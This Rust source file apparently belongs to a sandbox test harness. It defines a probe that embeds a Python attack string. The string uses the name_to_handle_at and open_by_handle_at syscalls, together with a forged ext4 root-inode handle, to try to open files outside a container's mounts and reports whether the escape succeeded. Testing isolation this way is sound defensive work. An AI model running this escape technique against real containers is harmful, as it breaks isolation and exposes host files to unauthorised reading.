//! A file by its handle, past every mount: the way out of old containers.

use crate::harness::{Probe, Risk};

pub(crate) const PROBE: Probe = Probe::new("open_by_handle", Risk::Reading, ATTACK);

const ATTACK: &str = r#"
# struct file_handle: a handle of each mount's own making, and the root inode of an ext4 file system made up.
for place in (".", "/", "/usr", "/etc", "/dev", "/proc/self"):
    handle = ctypes.create_string_buffer(8 + 128)
    ctypes.c_uint32.from_buffer(handle, 0).value = 128
    mount_id = ctypes.c_int()
    system_call(303, -100, place.encode(), handle, ctypes.byref(mount_id), 0)
    forged = ctypes.create_string_buffer(b"\x08\0\0\0\x01\0\0\0\x02\0\0\0\0\0\0\0", 16)
    try:
        directory = os.open(place, os.O_RDONLY)
    except OSError:
        directory = -100
    for which in (handle, forged):
        result, code = system_call(304, directory, which, os.O_RDONLY)
        if result >= 0:
            breached(f"opened a handle on {place}: {os.readlink(f'/proc/self/fd/{result}')}")
held(code)
"#;
